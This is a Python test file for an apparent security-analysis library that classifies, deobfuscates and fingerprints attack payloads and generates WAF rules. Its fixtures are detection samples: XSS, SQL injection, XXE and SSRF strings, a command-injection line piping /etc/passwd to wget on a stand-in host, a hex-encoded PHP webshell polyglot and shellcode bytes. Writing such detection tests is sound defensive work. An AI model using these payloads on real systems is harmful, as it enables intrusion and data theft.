import random

import pytest
from pyspark.sql import functions as F

from sedimenta.functions import coerce
from sedimenta.operators import bytestats, decode, fingerprints, markov, paths, polyglot, rules, shellcode, structure, threats


def corpus(spark, payloads):
    return spark.createDataFrame([("t", i, p) for i, p in enumerate(payloads)], "source string, payload_id long, payload string")


def rows(df):
    return [r for r in df.orderBy("payload_id").collect()]


ATTACKS = {
    "<script>prompt(document.domain)</script>": ("XSS", 25, "CWE-79"),
    "7' UNION SELECT isbn,price FROM stock WHERE '2'='2'--": ("SQL_INJECTION", 30, "CWE-89"),
    "%252e%252e%252f%252e%252e%252fsrv%2fkeys": ("PATH_TRAVERSAL_LFI", 20, "CWE-22"),
    "{{config}}": ("SSTI", 25, "CWE-1336"),
    "5' OR '5'='5": ("SQL_INJECTION", 25, "CWE-89"),
    "http://10.20.30.40/admin": ("SSRF", 25, "CWE-918"),
    '<!DOCTYPE note [<!ENTITY k SYSTEM "file:///srv/key">]>': ("XXE", 35, "CWE-611"),
    "a.__proto__.b": ("PROTOTYPE_POLLUTION", 25, "CWE-1321"),
    "PG_SLEEP(9)": ("SQL_INJECTION", 35, "CWE-89"),
    "pro' + 'mpt(docu' + 'ment.domain)": ("XSS", 25, "CWE-79"),
}


def test_threats(spark):
    got = rows(threats.threat_report(corpus(spark, ATTACKS)))
    for r, (category, risk, cwe) in zip(got, ATTACKS.values(), strict=True):
        assert (r.primary_threat, cwe in r.cwe_mappings) == (category, True) and r.risk_score >= risk
    benign = rows(threats.threat_report(corpus(spark, ["Where can I buy a second-hand bicycle in town?", "", None])))
    assert [(r.primary_threat, r.severity, r.risk_score) for r in benign] == [("BENIGN_OR_UNCLASSIFIED", "INFO", 0)] * 2
    both = rows(threats.threat_report(corpus(spark, ["; cat /etc/passwd | wget https://drop.test"])))[0]
    assert both.primary_threat == "COMMAND_INJECTION" and both.secondary_threats == ["PATH_TRAVERSAL_LFI"] and both.severity == "HIGH"


def test_ties_keep_the_order_of_signatures(spark):
    r = rows(threats.threat_report(corpus(spark, ["{{config}} <script "])))[0]
    assert (r.primary_threat, r.secondary_threats) == ("XSS", ["SSTI"])


def test_unicode_dialect(spark):
    # the Kelvin sign folds to k, and 1C-1F count as white space
    got = rows(threats.threat_report(corpus(spark, ["doc union\x1cselect", "document.coo\u212aie"])))
    assert [r.primary_threat for r in got] == ["SQL_INJECTION", "XSS"]


DECODED = {
    "%3Cimg%3E": "<img>", "%252e%252e%252fsrv%2fkeys": "../srv/keys", "\\x3c\\x73\\x63": "<sc", "pro' + 'mpt(docu' + 'ment.domain)": "pro" + "mpt(document.domain)", "&lt;b&gt; &amp;amp; &#x3c;": "<b> & <",
    "cHJvbXB0KGRvY3VtZW50LmRvbWFpbik=": "prompt(document.domain)", "a+b %zz %": "a+b %zz %", "\\ud83d\\ude00 \\ud83d": "\U0001f600 \ufffd", "%ff": "\ufffd", "": "", "AAAAAAAAAAAAAAAA": "AAAAAAAAAAAAAAAA",
}


def test_decoding(spark):
    got = rows(decode.deobfuscate(corpus(spark, DECODED)))
    for r, (payload, want) in zip(got, DECODED.items(), strict=True):
        assert r.normalized_payload == want, payload
        assert r.total_layers_unwrapped == len(r.steps) and decode.decode_layers(want)[0] == want
    assert rows(decode.deobfuscate(corpus(spark, [None])))[0].normalized_payload is None
    assert decode.decode_layers("%2525252525252525252541", 2)[1][-1]["layer"] == 2


@pytest.mark.parametrize("which,step", [("url", decode._url), ("hex", decode._escapes), ("concat", decode._joined), ("base64", decode._base64)])
def test_native_layers_agree(spark, which, step):
    rng = random.Random(1)
    pieces = ["%41", "%zz", "+", "\\x41", "\\u00e9", "'+'", "' + \"", "cHJvbXB0KGRvY3VtZW50LmRvbWFpbik=", "abcdefghijklmnopqrst", "é", " ", "x", "%C3%A9"]
    payloads = ["".join(rng.choice(pieces) for _ in range(rng.randrange(1, 8))) for _ in range(80)]
    got = rows(decode.single_layers(corpus(spark, payloads), which))
    assert [r.decoded for r in got] == [step(p) for p in payloads]


def test_rules(spark):
    r = rows(rules.waf_rules(corpus(spark, ["<script>alert(1)</script>"])))[0]
    assert r.threat == "XSS" and "SecRule" in r.modsecurity and "http.request" in r.cloudflare and "RegexMatchStatement" in r.aws_waf and r.suricata.startswith("alert http")
    import json
    import re

    pattern = re.escape("<script>alert(1)</script>")
    assert json.loads(r.aws_waf)["Statement"]["RegexMatchStatement"]["SearchString"] == pattern and f'"@rx {pattern}"' in r.modsecurity and f'content:"{pattern[:20]}"' in r.suricata
    assert json.dumps(json.loads(r.aws_waf), indent=2) == r.aws_waf
    odd = "a b\t\"q\\ é #&~"
    assert spark.createDataFrame([(odd,)], "x string").select(rules.escaped(F.col("x"))).first()[0] == re.escape(odd)
    assert rules.waf_rules(corpus(spark, ["x"]), ("suricata",)).columns == ["source", "payload_id", "threat", "severity", "suricata"]


OBFUSCATED = {
    "setTimeout(atob('Y29uZmlybSgyKQ=='))": "DYNAMIC_EVAL_WRAPPER", "globalThis['pro' + 'mpt']('ti' + 'tle')": "BRACKET_PROPERTY_LOOKUP", "l''s${IFS}/srv/data": "SHELL_ENV_SPLITTING", "zero\u200bwidth": "ZERO_WIDTH_CHARACTER_INTERLEAVING",
    "a+b+c+d+e+f": "EXCESSIVE_CONCATENATION_DENSITY", "/*!50000SELECT*/": "SQL_COMMENT_SPLITTING", "`i`e`x": "POWERSHELL_BACKTICK_SPLIT",
}


def test_obfuscation(spark):
    got = rows(structure.obfuscation_report(corpus(spark, OBFUSCATED)))
    for r, name in zip(got, OBFUSCATED.values(), strict=True):
        assert name in r.evasion_techniques
    assert "SHELL_QUOTE_ESCAPE_INSERTION" in got[2].evasion_techniques
    assert got[3].detected_constructs[-1].matched_text == "Found 1 zero-width characters (e.g. \\u200b)"
    plain, empty = rows(structure.obfuscation_report(corpus(spark, ["const area = (w, h) => w * h;", ""])))
    assert not plain.obfuscation_detected and plain.complexity_score == 0 and "standard" in plain.deobfuscation_hints[0] and empty.deobfuscation_hints == ["Empty or non-string payload."]


def test_places_of_matches(spark):
    text = "é $1 and $@, then ${IFS} and $9"
    found = rows(structure.obfuscation_report(corpus(spark, [text])))[0].detected_constructs
    assert [(c.matched_text, c.start, c.end) for c in found] == [(m, text.index(m), text.index(m) + len(m)) for m in ("$1", "$@", "${IFS}")]


FILES = {
    "GIF87a/*x*/=confirm(document.title);": ("GIF_JAVASCRIPT_POLYGLOT", 95), "\\x89504e470d0a1a0a3c3f7068702073797374656d28245f504f53545b325d293b203f3e": ("PNG_PHP_WEBSHELL_POLYGLOT", 98), "%PDF-1.4 /Launch (tool.sh)": ("PDF_ACTION_SCRIPT_POLYGLOT", 90),
    "\\xffd8ffe100184578696600004d4d002a00000008504b0304": ("JPEG_ZIP_ARCHIVE_POLYGLOT", 88), '<svg onload="confirm(3)"></svg>': ("SVG_SCRIPT_INJECTION_POLYGLOT", 92), "MZ<html>": ("HYBRID_PE_EXE_HTML_POLYGLOT", 75), "\\xffd8ff206576616c283129": ("JPEG_EMBEDDED_CODE_POLYGLOT", 85),
    "Opening hours and directions to the museum": ("MONOLITHIC_PAYLOAD", 10), "eval(1)": ("MONOLITHIC_PAYLOAD", 40), "": ("MONOLITHIC_PAYLOAD", 10),
}


def test_polyglots(spark):
    got = rows(polyglot.polyglot_report(corpus(spark, FILES)))
    assert [(r.polyglot_class, r.risk_score) for r in got] == list(FILES.values())
    assert got[3].detected_formats == ["JPEG", "ZIP"] and got[3].structural_anomalies[0].startswith("ZIP central")
    assert "['PE_EXE', 'HTML']" in got[5].structural_anomalies[0] and got[2].mitigation_advice


CODE = {"90" * 24 + "31D20F05": (True, False, True), "90" * 9 + "E80000000059CD80": (True, True, True), "d9eed97424f4d9eed97424f4": (False, True, False), "SELECT name FROM crew WHERE rank='cook'": (False, False, False), "\\x90" * 12 + "\\xcd\\x80": (True, False, True), "@ABCDEFGHIJ": (True, False, False)}


def test_machine_code(spark):
    got = rows(shellcode.report(corpus(spark, [*CODE, "", None])))
    assert [(r.nop_sled_detected, r.getpc_detected, r.syscall_detected) for r in got[:-1]] == list(CODE.values())
    assert got[0].score >= 0.5 and len(got[0].indicators) >= 2 and got[1].score >= 0.6 and got[3].score < 0.3
    assert got[-1].score == 0 and got[-1].is_shellcode_likely is None and got[-1].non_printable_ratio is None


def test_coercions(spark):
    one = lambda make, x: bytes(spark.createDataFrame([(x,)], "x string").select(make(F.col("x"))).first()[0])
    assert one(coerce.plain, "FEDCBA9876543210") == b"FEDCBA9876543210"
    assert one(coerce.hex_aware, "FEDCBA9876543210") == bytes.fromhex("FEDCBA9876543210")
    assert one(coerce.hex_aware, "\\x9z") == b"\\x9z" and one(coerce.hex_aware, "\\X41\\x42") == b"AB" and one(coerce.hex_aware, "ABC") == b"ABC"
    assert one(coerce.file_bytes, "  \\x41 42 ") == b"AB" and one(coerce.file_bytes, "é") == "é".encode()
    assert one(lambda c: coerce.flagged_hex(c, F.lit(True)), "90 90\\x90") == b"\x90" * 3
    value = lambda x, k: spark.range(1).select(coerce.rounded(F.lit(x), k)).first()[0]
    for x, k in ((0.00125, 4), (2.8125, 3), (2.675, 2), (0.5, 1), (1e-9, 4), (-0.00005, 4)):
        assert value(x, k) == round(x, k)


def leaders(hashes, most):
    found, out = [], []
    for i, h in hashes:
        at = next((j for j, g in found if (g ^ h).bit_count() <= most), None)
        if at is None:
            found.append((i, h))
            at = i
        out.append((i, at))
    return out


def test_clusters_against_a_direct_pass(spark):
    rng = random.Random(4)
    base = [bytes(rng.randrange(32, 127) for _ in range(60)) for _ in range(6)]
    payloads = []
    for _ in range(120):
        p = bytearray(rng.choice(base))
        for _ in range(rng.randrange(0, 6)):
            p[rng.randrange(len(p))] = rng.randrange(32, 127)
        payloads.append(p.decode())
    df = spark.createDataFrame(list(enumerate(payloads)), "idx long, payload string")
    for threshold in (0.85, 0.7):
        want = leaders([(i, fingerprints.simhash_of(p.encode())) for i, p in enumerate(payloads)], fingerprints.largest_distance(threshold))
        got = fingerprints.cluster(df, threshold=threshold).orderBy("idx").collect()
        assert [(r.idx, r.leader) for r in got] == want
        order = {x: k + 1 for k, x in enumerate(sorted({a for _, a in want}))}
        assert all(r.cluster_id == order[r.leader] for r in got)
    assert fingerprints.cluster(df.where("false")).count() == 0


def test_known_clusters(spark):
    some = ["SELECT 1 FROM loans WHERE due=1", "SELECT 1 FROM loans WHERE due=2", "SELECT 1 FROM loans WHERE due=3", "<svg onload=confirm(1)>", "<svg onload=confirm(2)>"]
    sizes = fingerprints.cluster_sizes(fingerprints.cluster(spark.createDataFrame(list(enumerate(some)), "idx long, payload string"))).orderBy("cluster_id").collect()
    assert [(r.cluster_id, r.size) for r in sizes] == [(1, 3), (2, 2)]


def test_comparison(spark):
    r = fingerprints.compare(spark.createDataFrame([(1, "UNION SELECT 4,5,6--", "UNION SELECT 4,5,9--"), (2, "x", "x")], "pair_id long, left string, right string")).orderBy("pair_id").collect()
    assert (r[0].hamming_distance, r[0].simhash_similarity, r[0].minhash_jaccard_similarity) == (20, 0.6875, 0.6875)
    assert (r[1].hamming_distance, r[1].simhash_similarity, r[1].minhash_jaccard_similarity) == (0, 1.0, 1.0)


def test_profile_and_nulls(spark):
    r = rows(markov.profile(corpus(spark, ["UNION SELECT 4,5,6--", ""])))
    assert r[0].simhash == "30194181e2999296" and int(r[0].simhash_int) == 0x30194181E2999296 and len(r[0].minhash_signature) == 32
    assert r[1].payload_length == 0 and r[1].simhash == "0" * 16
    assert rows(bytestats.byte_entropy(corpus(spark, [None, "ab"])))[0].entropy is None


def test_paths(spark):
    one = lambda make, x: spark.createDataFrame([(x,)], "x string").select(make(F.col("x"))).first()[0]
    for x, want in (("", True), (None, True), ("http://localhost:3000", True), ("https://127.0.0.1/a", True), ("http://[::1]:80", True), ("http://evil.com", False), ("null", False), ("file://x", False), ("http://192.168.1.5", False), ("http://localhost.evil.com", False), ("http://user@localhost", True)):
        assert one(paths.local_origin, x) == want, x
    for x, want in (("/static/./app.js", "static/app.js"), ("/a/../b", ""), ("/%2e%2e/etc", ""), ("..\\..\\x", ""), ("c:/x", ""), ("", ""), ("/a//b/", "a/b"), ("a+b%zz", "a+b%zz")):
        assert one(paths.safe_path, x) == want, x
